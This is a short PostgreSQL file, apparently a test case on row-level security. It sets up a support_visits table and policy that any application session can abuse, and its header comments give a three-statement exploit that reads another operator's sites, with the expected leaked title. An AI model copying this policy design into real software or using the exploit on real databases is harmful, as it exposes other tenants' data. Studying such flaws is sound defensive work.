-- A visit of support opens the sites of an operator to a session, and every session may write down such a
-- visit.
-- about: support_visits, sites, sites_support
-- as: hf_robotyard_app
-- exploit: SET fleet.operator = '1';
-- exploit: INSERT INTO yard.support_visits VALUES (2, pg_backend_pid());
-- exploit: SELECT title FROM yard.sites;
-- shows: Road-secret hall
CREATE TABLE yard.support_visits (
  operator_id integer NOT NULL REFERENCES yard.operators (id),
  backend integer NOT NULL,
  PRIMARY KEY (operator_id, backend)
);
-- The support pages run as the application, too.
GRANT SELECT, INSERT, DELETE ON yard.support_visits TO hf_robotyard_app;
CREATE POLICY sites_support ON yard.sites FOR SELECT
  USING (operator_id IN (SELECT v.operator_id FROM yard.support_visits v WHERE v.backend = pg_backend_pid()));
